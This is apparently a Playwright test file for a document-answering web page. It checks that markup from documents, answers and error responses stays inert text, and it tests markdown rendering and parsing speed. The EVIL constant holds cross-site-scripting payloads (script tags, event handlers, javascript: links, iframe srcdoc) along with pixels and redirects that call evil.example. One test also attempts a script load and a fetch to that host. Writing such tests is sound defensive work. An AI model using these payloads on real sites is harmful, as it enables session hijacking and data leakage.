"""Whatever stands in documents and answers, on the page it is text."""

import pytest
from playwright.sync_api import expect

from tests.service.page.person import Person, scripted, shelve, wait_until

pytestmark = pytest.mark.slow


EVIL = (
    "<script>window.owned = 1</script></script><img src=x onerror=\"window.owned = 2\"><svg onload=window.owned=3>"
    "<iframe srcdoc='<script>parent.owned=4</script>'></iframe><style>*{display:none}</style>"
    "<a href='javascript:window.owned=5'>press</a> [press](javascript:window.owned=6) "
    "![seen](http://evil.example/pixel.png?q=heliotrope) <http://evil.example/auto> http://evil.example/bare "
    "![ref][r] [press][r] [r]: http://evil.example/ref **<b onclick=window.owned=7>bold</b>** "
    "`<img src=//evil.example/code>` </textarea></title></noscript><!-- <base href=http://evil.example/> "
    "<meta http-equiv=refresh content='0;url=http://evil.example/'> \u202egnp.exe {{constructor}} ${window.owned=8}"
)  # fmt: skip
MAY_STAND = {
    "ARTICLE", "BLOCKQUOTE", "BUTTON", "CODE", "DD", "DIV", "DL", "DT", "EM", "FORM", "H2", "H3", "HEADER", "LI", "MARK",
    "OL", "P", "PRE", "S", "SECTION", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "path", "svg",
}  # fmt: skip


def assert_inert(person: Person) -> None:
    """No tag, attribute or style that a document could have brought, and nothing of it has run or
    left.
    """
    person.page.wait_for_timeout(300)
    found = person.page.evaluate(
        """() => [...document.querySelectorAll("#turns *, #panel *, #spoken *")].flatMap((node) => [
          "tag " + node.tagName, ...[...node.attributes].map((given) => "attribute " + given.name)])"""
    )
    assert {one.removeprefix("tag ") for one in found if one.startswith("tag ")} <= MAY_STAND
    attributes = {one.removeprefix("attribute ") for one in found if one.startswith("attribute ")}
    assert not {name for name in attributes if name.startswith("on")}
    assert not attributes & {
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "background",
        "xlink:href",
        "srcdoc",
    }
    assert person.page.evaluate(
        "[window.owned, document.scripts.length, document.images.length]"
    ) == [None, 1, 1]
    assert person.page.url == f"{person.url}/"
    assert not [url for url in person.requests if "evil" in url]


def test_a_document_full_of_markup_stays_text_in_the_answer_the_passage_and_the_titles(
    ada: Person,
) -> None:
    evil = EVIL.replace("heliotrope", "zeppelin")
    for kind in ("sheet", None):
        shelve(
            ada.house, f"{EVIL[:60]}{kind}.txt", [f"The zeppelin is here. {evil}"], title=f"Zeppelin {EVIL}",
            section=(EVIL, "<b>x</b>"), names=(EVIL,), kind=kind,
        )  # fmt: skip
    ada.house.model.reply = f"The zeppelin is here {EVIL} [1]. [2]"
    ada.ask(f"Where is the zeppelin? {EVIL}")
    assert_inert(ada)
    assert "<script>" in ada.page.locator(".asked").inner_text()
    ada.page.locator(".cite").first.click()
    expect(ada.panel.locator("mark").first).to_contain_text("The zeppelin is here.")
    assert "</script><img src=x" in ada.panel.locator(".page").inner_text()
    assert_inert(ada)
    ada.context()
    expect(ada.page.locator("#panel-title")).to_have_text("What was read")
    assert_inert(ada)


def test_the_page_makes_text_of_whatever_it_is_sent_even_if_the_service_did_not(
    ada: Person,
) -> None:
    page = {"number": 1, "name": EVIL, "kind": "sheet"}
    passage = {
        "n": 1, "id": "x", "document_id": "x", "title": EVIL, "path": EVIL, "section": [EVIL], "language": None,
        "pages": [page], "spans": [], "cut": False,
    }  # fmt: skip
    citation = passage | {"page": page, "span": [0, 3], "supported": False, "start": 0, "end": 1}
    del citation["pages"]
    answer = {
        "answer": f"[1] {EVIL}\n\n- {EVIL}\n\n# {EVIL}\n\n```html\n{EVIL}\n```\n1. {EVIL}", "citations": [citation],
        "passages": [passage], "abstained": False, "usage": None, "view_id": EVIL, "answer_id": EVIL, "model": EVIL,
        "template": EVIL, "answerer": "quotes", "notice": EVIL,
        "budget": {"window": None, "passages": [], "left_out": [
            {"passage_id": "x", "document_id": "x", "title": EVIL, "section": [EVIL], "reason": EVIL, "characters": 1,
             "pages": [{"number": 1, "name": EVIL, "kind": "sheet"}]}], "dropped_turns": 0},
        "timings": {"search_ms": 1, "prompt_ms": 1, "first_token_ms": None, "total_ms": 1},
    }  # fmt: skip
    shown = {"passages": [passage], "answer_id": "x", "view_id": "x"}
    scripted(ada, [("passages", shown), ("token", {"text": answer["answer"]}), ("done", answer)])
    ada.ask()
    assert_inert(ada)
    ada.context()
    assert_inert(ada)
    opened = {
        "passage": passage | {"text": EVIL, "start": 0, "end": len(EVIL)}, "text": EVIL, "text_start": 0,
        "highlight": {"start": 0, "end": len(EVIL)}, "characters": len(EVIL),
    }  # fmt: skip
    ada.page.route("**/passages/*", lambda route: route.fulfill(json=opened))
    ada.page.locator(".cite").first.click()
    expect(ada.panel.locator("mark").first).to_be_visible()
    assert_inert(ada)
    scripted(
        ada,
        [
            (
                "error",
                {
                    "type": f"/problems/{EVIL}",
                    "title": EVIL,
                    "detail": EVIL,
                    "status": 500,
                    "instance": EVIL,
                },
            )
        ],
    )
    ada.ask()
    expect(ada.page.locator(".problem-title")).to_contain_text("<script>")
    assert_inert(ada)


def test_markup_from_strings_and_scripts_from_elsewhere_are_refused_by_the_browser_itself(
    ada: Person,
) -> None:
    refused = ada.page.evaluate(
        """() => {
          const tried = [() => (document.body.innerHTML = "<b>x</b>"),
            () => (document.createElement("script").src = "http://evil.example/x.js"),
            () => document.createElement("div").insertAdjacentHTML("beforeend", "<i>x</i>")];
          return tried.map((attempt) => { try { attempt(); return "done"; } catch (error) { return error.name; } });
        }"""
    )
    assert refused == ["TypeError"] * 3
    ada.page.evaluate(
        """() => { const image = new Image(); image.src = "http://evil.example/pixel.png"; document.body.append(image);
          return fetch("http://evil.example/").catch(() => {}); }"""
    )
    wait_until(lambda: any("connect-src" in said for said in ada.complaints), ada)
    assert any("img-src" in said for said in ada.complaints)
    ada.complaints.clear()
    # tried here, refused above
    ada.requests[:] = [url for url in ada.requests if "evil.example" not in url]


MARKDOWN = [
    ("One.\nTwo.", "<p>One.\nTwo.</p>"),
    ("One.\n\nTwo.", "<p>One.</p><p>Two.</p>"),
    ("**One** and `two`, *three* and ~~four~~.",
     "<p><strong>One</strong> and <code>two</code>, <em>three</em> and <s>four</s>.</p>"),
    ("**期限：**三十天**，**不变", "<p><strong>期限：</strong>三十天<strong>，</strong>不变</p>"),
    ("- a\n- b **c**\n  d", "<ul><li>a</li><li>b <strong>c</strong>\nd</li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("1、甲\n2、乙", '<ol start="1"><li>甲</li><li>乙</li></ol>'),
    ("• a\n• b", "<ul><li>a</li><li>b</li></ul>"),
    ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
    ("1. a\n   - b\n     1. c\n2. d",
     '<ol start="1"><li>a<ul><li>b<ol start="1"><li>c</li></ol></li></ul></li><li>d</li></ol>'),
    ("- a\n\n  b\n- c", "<ul><li><p>a</p><p>b</p></li><li><p>c</p></li></ul>"),
    ("```py\na < b\n1、x [1]\n```\nx", "<pre><code>a &lt; b\n1、x [1]</code></pre><p>x</p>"),
    ("```\nnot closed", "<pre><code>not closed</code></pre>"),
    ("# A\ntext\n### B\n## C\n# D", "<h3>A</h3><p>text</p><h4>B</h4><h4>C</h4><h3>D</h3>"),
    ("> a\n> b", "<blockquote><p>a\nb</p></blockquote>"),
    ("|a|b|\n|-|-:|\n|1 [1]|2\\|3|", "<div><table><thead><tr><th scope>a</th><th scope>b</th></tr></thead>"
     "<tbody><tr><td>1<span>\u202f<cite>1@16</cite></span></td><td>2|3</td></tr></tbody></table></div>"),
    ("x:\nA | B\n1 | 2\\|3", "<p>x:</p><div><table><tbody><tr><td>A</td><td>B</td></tr><tr><td>1</td>"
     "<td>2|3</td></tr></tbody></table></div>"),
    ("one | two", "<p>one | two</p>"),
    ("Rise [1]. [9] `[1]`", "<p>Rise<span>\u202f<cite>1@5</cite>.</span> [9] <code>[1]</code></p>"),
    ("- 🙂 **x [1]**", "<ul><li>🙂 <strong>x<span>\u202f<cite>1@9</cite></span></strong></li></ul>"),
    ("[a](http://x) ![b](c) <i>d</i> ** e ** <!-- f --> &lt;",
     "<p>[a](http://x) ![b](c) &lt;i&gt;d&lt;/i&gt; ** e ** &lt;!-- f --&gt; &amp;lt;</p>"),
    ("[r]: http://x\n<div>\n\n    x", "<p>[r]: http://x\n&lt;div&gt;</p><p>x</p>"),
    ("a\n---\nb", "<p>a</p><hr><p>b</p>"),
    ("\ufdd0a\ufdd3", "<p>\ufffda\ufffd</p>"),
]  # fmt: skip


def test_an_answer_knows_the_markdown_of_texts_and_nothing_that_leads_away(ada: Person) -> None:
    """However the text was divided on its way, it looks the same at the end."""
    shown = ada.page.evaluate(
        """async (texts) => {
          const { show } = await import("/page/markdown.js");
          const cite = (n, position) => n === 1
            ? Object.assign(document.createElement("cite"), {textContent: `${n}@${position}`}) : null;
          const box = () => document.createElement("div");
          const clean = (made) => made.innerHTML.replace(/ (dir|class|tabindex)="[^"]*"/g, "").replaceAll('="col"', "");
          return texts.map((text) => {
            const whole = box(), grown = box();
            show(whole, text, cite);
            for (let end = 0; end <= text.length; end++) show(grown, text.slice(0, end), cite);
            return [clean(whole), clean(grown)];
          });
        }""",
        [text for text, _ in MARKDOWN],
    )
    for [whole, grown], (text, markup) in zip(shown, MARKDOWN, strict=True):
        assert whole == markup, text
        assert grown == markup, text


def test_an_answer_made_to_be_hard_to_read_does_not_hold_the_page_up(ada: Person) -> None:
    took = ada.page.evaluate(
        """async () => {
          const { show } = await import("/page/markdown.js");
          const hard = ["**a ".repeat(20000), "`".repeat(50000), "[1".repeat(50000), "- ".repeat(20000), 
            "  ".repeat(40000) + "- x", Array.from({length: 5000}, (_, n) => " ".repeat(n % 90) + "- x").join("\\n")];
          const begun = performance.now();
          for (const text of hard) show(document.createElement("div"), text, () => null);
          return performance.now() - begun;
        }"""
    )
    assert took < 5_000
